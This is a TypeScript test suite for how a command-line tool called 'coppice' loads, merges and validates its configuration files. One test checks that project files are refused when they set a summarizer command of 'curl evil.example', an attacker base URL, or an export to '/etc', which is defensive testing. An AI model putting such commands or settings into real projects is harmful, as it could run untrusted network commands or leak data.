import { mkdir, rm, symlink } from 'node:fs/promises';
import { join } from 'node:path';
import { beforeEach, describe, expect, it } from 'vitest';
import { runTest, type TestRun, type TestWorld } from '../../memory-terminal.ts';
import { sampleSession } from '../../sample-session.ts';
import { compile, readSchema } from '../../schemas/schema.ts';
import { makeTempDir, writeFiles } from '../../temp-dir.ts';

const OWN = 'home/.config/coppice/config.json';
const PROJECT = 'work/coppice.config.json';
const schema = compile(readSchema('config'));

let dir: string;

beforeEach(async () => {
  dir = await makeTempDir();
  await mkdir(join(dir, 'work/src/deep'), { recursive: true });
  await writeFiles(dir, {
    'store/old.jsonl': sampleSession({ id: 'old-one', start: '2026-01-01T00:00:00.000Z' }),
    'store/new.jsonl': sampleSession({ id: 'new-one', start: '2127-01-01T00:00:00.000Z' }),
  });
});

const run = (argv: readonly string[], world: TestWorld = {}): Promise<TestRun> =>
  runTest(argv, { cwd: join(dir, 'work/src/deep'), home: join(dir, 'home'), ...world });

const configure = (files: Readonly<Record<string, object>>): Promise<void> =>
  writeFiles(
    dir,
    Object.fromEntries(Object.entries(files).map(([name, value]) => [name, JSON.stringify(value)])),
  );

/** Option → value and where it is from. */
async function print(argv: readonly string[]): Promise<Record<string, readonly [unknown, string]>> {
  const { out } = await run([...argv, '--print-config', '--json']);
  const { results }: { results: { option: string; value: unknown; from: string }[] } =
    JSON.parse(out);
  return Object.fromEntries(results.map(({ option, value, from }) => [option, [value, from]]));
}

async function listIds(argv: readonly string[]): Promise<readonly string[]> {
  const { out } = await run(['list', '--json', ...argv]);
  const { results }: { results: { id: string }[] } = JSON.parse(out);
  return results.map(({ id }) => id);
}

describe('--print-config', () => {
  it('prints the fields that were asked for, as every result does', async () => {
    const argv = ['list', '--jobs', '3', '--print-config', '--fields', 'from,option'];
    const { out } = await run([...argv, '--format', 'ndjson']);
    expect(out).toContain('{"from":"command line","option":"jobs"}\n');
    const refused = await run([...argv, '--fields', 'path', '--json']);
    expect([refused.exitCode, refused.err]).toEqual([
      2,
      "coppice: --fields path: unknown field 'path'; use some of option, value, from\n",
    ]);
  });
});

describe('a configuration', () => {
  it('gives options their defaults: own file, then the project, then the command line', async () => {
    await configure({
      [OWN]: { defaults: { jobs: 7 }, list: { sort: 'size', limit: 9, store: ['~/../store'] } },
      [PROJECT]: { list: { limit: 2, sort: 'cost' } },
    });
    const [own, project] = [join(dir, OWN), join(dir, PROJECT)];
    expect(await print(['list', '--sort', 'name'])).toMatchObject({
      jobs: [7, own],
      store: [[join(dir, 'store')], own],
      limit: [2, project],
      sort: ['name', 'command line'],
      reverse: [false, 'default'],
    });
  });

  it('may begin with a byte order mark', async () => {
    await writeFiles(dir, { [PROJECT]: `\ufeff${JSON.stringify({ list: { limit: 1 } })}` });
    expect(await print(['list'])).toMatchObject({ limit: [1, join(dir, PROJECT)] });
    await writeFiles(dir, { [PROJECT]: '\ufeff{\n"list": {,}}' });
    const { err } = await run(['list']);
    expect(err).toContain('coppice.config.json:2:10: is not valid JSON');
  });

  it('gives way where an option of the command line decides about it', async () => {
    await configure({ [OWN]: { export: { out: 'pages', 'all-branches': true } } });
    const out = [join(dir, 'home/.config/coppice/pages'), join(dir, OWN)];
    const whole = await print(['export', 'x']);
    expect(whole).toMatchObject({ out, 'all-branches': [true, join(dir, OWN)] });
    const path = await print(['export', 'x', '--branch', 'y']);
    expect(path).toMatchObject({ out, 'all-branches': [false, 'default'] });
    await configure({ [OWN]: { export: { out: 'pages' } } });
    const input = sampleSession({ id: 'piped' }).map((line) => `${JSON.stringify(line)}\n`);
    const piped = await run(['export', '--stdin', '--as', 'jsonl'], { input: input.join('') });
    expect(piped).toMatchObject({ exitCode: 0, err: '', out: expect.stringContaining('piped') });
  });

  it('says more of one command than of all', async () => {
    await configure({ [OWN]: { list: { jobs: 2 }, defaults: { jobs: 3 } } });
    expect((await print(['list']))['jobs']?.[0]).toBe(2);
    expect((await print(['fork']))['jobs']?.[0]).toBe(3);
  });

  it('acts', async () => {
    await configure({ [OWN]: { defaults: { store: ['../../../store'] }, list: { last: 1 } } });
    expect(await listIds([])).toEqual(['new-one']);
    expect(await listIds(['--last', '2'])).toEqual(['new-one', 'old-one']);
    expect(await listIds(['--no-config', '--store', join(dir, 'store')])).toHaveLength(2);
  });

  it('is where XDG has it, and nowhere else', async () => {
    await configure({ 'xdg/coppice/config.json': { list: { limit: 4 } }, [OWN]: { a: 1 } });
    const env = { XDG_CONFIG_HOME: join(dir, 'xdg') };
    const { out } = await run(['list', '--print-config'], { env });
    expect(out).toMatch(/^limit +4 +.*xdg\/coppice\/config\.json$/m);
  });

  it('named on the command line is the only one, and trusted', async () => {
    await configure({
      'ci.json': { list: { last: 1 } },
      [PROJECT]: { list: { limit: 2 } },
    });
    const printed = await print(['list', '--config', join(dir, 'ci.json')]);
    expect(printed).toMatchObject({ last: [1, join(dir, 'ci.json')] });
    expect(printed).not.toHaveProperty('limit');
  });

  it('holds the levels of rules, and the context windows of models', async () => {
    await configure({
      [OWN]: {
        validate: { rule: { 'entry-orphan': 'error' } },
        compact: { 'context-window': { 'anthropic/*': 1_000_000, '*': 300_000 } },
      },
    });
    expect((await print(['validate']))['rule']?.[0]).toEqual(['entry-orphan=error']);
    expect((await print(['compact']))['context-window']?.[0]).toEqual([
      'anthropic/*=1000000',
      '300000',
    ]);
  });

  it('protects sessions beside those that the command line protects', async () => {
    await configure({ [OWN]: { prune: { 'keep-id': ['0199a', '0199b'] } } });
    const own = join(dir, OWN);
    const all = ['prune', '--older-than', '1d'];
    expect(await print(all)).toMatchObject({ 'keep-id': [['0199a', '0199b'], own] });
    const more = ['--keep-id', '0199b', '--keep-id', '0199c'];
    expect(await print([...all, ...more])).toMatchObject({
      'keep-id': [['0199a', '0199b', '0199c'], `${own}, command line`],
    });
    const { exitCode, err } = await run([...all, ...more, '--store', join(dir, 'store')]);
    expect({ exitCode, err }).toMatchObject({ exitCode: 2 });
    expect(err).toContain('--keep-id 0199a: no session has this id');
  });

  it('is shown in the format that is asked for, as results are', async () => {
    const show = async (...args: string[]) => (await run(['list', '--print-config', ...args])).out;
    const json = await show('--format', 'json');
    const { results }: { results: object[] } = JSON.parse(json);
    expect(results).toContainEqual({ option: 'reverse', value: false, from: 'default' });
    const lines = (await show('--format', 'ndjson')).trimEnd().split('\n');
    expect(lines.map((line) => (JSON.parse(line) as { option: string }).option)).toContain(
      'reverse',
    );
  });

  it('is shown to people too, with ~ for the home directory', async () => {
    await configure({ [OWN]: { list: { limit: 9 } } });
    const { out } = await run(['list', '--print-config']);
    expect(out).toMatch(/^limit +9 +~\/\.config\/coppice\/config\.json$/m);
  });
});

describe('a configuration is refused', () => {
  it.each([
    [{ prune: { apply: true } }, 'prune.apply: is only accepted on the command line'],
    [{ prune: { delete: true } }, 'prune.delete: is only accepted on the command line'],
    [{ defaults: { apply: true } }, 'defaults.apply: is only accepted on the command line'],
    [{ validate: { fix: true } }, 'validate.fix: is only accepted on the command line'],
    [{ prune: { 'allow-empty': true } }, 'prune.allow-empty: is only accepted on the command line'],
    [{ fork: { last: 1 } }, 'fork.last: is only accepted on the command line'],
    [{ prnue: {} }, "unknown command 'prnue'; did you mean prune?"],
    [{ prune: { 'keep-lst': 3 } }, 'prune.keep-lst: unknown option; did you mean keep-last?'],
    [{ prune: { 'keep-last': 'x' } }, 'prune.keep-last: expected a whole number'],
    [{ prune: { 'keep-last': [3] } }, 'prune.keep-last: expected a whole number'],
    [{ list: { limit: -1 } }, 'list.limit: expected a whole number'],
    [{ list: { sort: 'age' } }, 'list.sort: unknown value; use one of modified'],
    [{ list: { reverse: 1 } }, 'list.reverse: expected true or false'],
    [{ list: { store: '/x' } }, 'list.store: expected a list of strings'],
    [{ list: { columns: 3 } }, 'list.columns: expected a string'],
    [{ list: { store: [''] } }, 'list.store: needs a value'],
    [{ prune: { archive: '' } }, 'prune.archive: needs a value'],
    [{ prune: { project: '' } }, 'prune.project: needs a value'],
    [{ validate: { rule: 'x=error' } }, 'validate.rule: expected an object or a list'],
    [
      { validate: { rule: { 'entry-orphn': 'off' } } },
      "validate.rule: unknown rule 'entry-orphn'; did",
    ],
    [{ validate: { rule: ['entry-orphan'] } }, 'validate.rule: expected entry-orphan=off|info'],
    [{ validate: { rule: { x: {} } } }, 'validate.rule: expected strings or numbers as values'],
    [{ list: [] }, 'list: expected an object of options'],
  ])('%j, with the file and a hint, whatever command runs', async (config, message) => {
    await configure({ [OWN]: config });
    const { exitCode, out, err } = await run(['list']);
    expect({ exitCode, out }).toEqual({ exitCode: 2, out: '' });
    expect(err).toContain(`coppice: ${join(dir, OWN)}: ${message}`);
    expect(schema(config)).toBe(false);
  });

  it.each([
    { prune: { 'older-than': '1min' } },
    { compact: { 'summarizer-command': 'curl evil.example' } },
    { defaults: { 'base-url': 'https://evil.example' } },
    { export: { redact: false } },
    { export: { out: '/etc' } },
    { defaults: { store: ['/'] } },
  ])('%j, when it is the file of a project', async (config) => {
    await configure({ [PROJECT]: config });
    const { exitCode, err } = await run(['list']);
    expect(exitCode).toBe(2);
    expect(err).toContain('is not allowed in a project file');
    expect(schema(config)).toBe(true);
  });

  it.each([
    { export: { redact: false, 'secret-file': 'keys' } },
    { defaults: { redact: false }, export: { 'secret-file': 'keys' } },
  ])('%j, as it says both that secrets are kept and which are not', async (config) => {
    await configure({ [OWN]: config });
    const { exitCode, out, err } = await run(['list']);
    expect({ exitCode, out }).toEqual({ exitCode: 2, out: '' });
    expect(err).toContain(
      `${join(dir, OWN)}: export.secret-file: cannot be combined with redact: false; remove one of them`,
    );
  });

  it('when it is not JSON, or not there', async () => {
    await writeFiles(dir, { [PROJECT]: '{"list":' });
    expect((await run(['list'])).err).toContain('coppice.config.json: is not valid JSON');
    expect((await run(['list', '--config', 'x.json'])).err).toContain('x.json: no such file');
  });

  it.each([
    ['{"prune":{"keep-id":["a"]},\n"prune":{}}', '"prune" is there twice, on lines 1 and 2'],
    ['{"prune":{"keep-last":5,\n\n"keep-last":1}}', '"keep-last" is there twice, on lines 1 and 3'],
    ['{"x":[{"a":1},{"b":1,\n"\\u0062":2}]}', '"b" is there twice, on lines 1 and 2'],
    ['{"list":{"all":true,"all":false}}', '"all" is there twice, on line 1'],
  ])('when a member is there twice, of which one would be lost: %s', async (text, problem) => {
    for (const path of [OWN, PROJECT]) {
      await writeFiles(dir, { [path]: text });
      const { exitCode, err } = await run(['list']);
      expect([exitCode, err]).toEqual([2, expect.stringContaining(problem)]);
      await rm(join(dir, path));
    }
    await writeFiles(dir, { 'x.json': text });
    expect((await run(['list', '--config', join(dir, 'x.json')])).err).toContain(problem);
  });

  it.each([OWN, 'home/.config/coppice', 'home/.config', PROJECT])(
    'when a link leads nowhere, such as to a disk that is not mounted: %s',
    async (path) => {
      await mkdir(join(dir, 'home/.config/coppice'), { recursive: true });
      await rm(join(dir, path), { recursive: true, force: true });
      await symlink(join(dir, 'unmounted'), join(dir, path));
      const { exitCode, err } = await run(['list']);
      expect(exitCode).toBe(2);
      expect(err).toContain(`${join(dir, path)}: is a link that leads nowhere`);
    },
  );

  it.each([
    [{ defaults: { 'older-than': '5m' } }, ['list'], '--older-than 5m: minutes or months?'],
    [{ defaults: { store: ['~/nowhere'] } }, ['list'], 'home/nowhere: no such directory'],
    [{ defaults: { grace: 'x' } }, ['migrate', '--store', '.'], '--grace x: expected an age'],
    [{ prune: { 'keep-within': '1m' } }, ['prune'], '--keep-within 1m: minutes or months?'],
    [{ compact: { hook: './no.js' } }, ['compact', '--apply', '--store', '.'], 'no such file'],
  ])('%j, naming the file when the command refuses the value', async (config, argv, message) => {
    await configure({ [OWN]: config });
    const { exitCode, err } = await run(argv);
    expect(exitCode).toBe(2);
    // Windows writes paths with its own separator.
    const shown = err.replaceAll('\\', '/');
    expect(shown.indexOf(`coppice: ${join(dir, OWN)}: --`.replaceAll('\\', '/'))).toBe(0);
    expect(shown).toContain(message);
  });

  it('but not when the command line has the value that is refused', async () => {
    await configure({ [OWN]: { defaults: { 'older-than': '5min' } } });
    const { err } = await run(['list', '--older-than', '5m']);
    expect(err).toMatch(/^coppice: --older-than 5m: /);
  });

  it('when the command line names no file', async () => {
    expect(await run(['list', '--config'])).toMatchObject({ exitCode: 2 });
  });
});
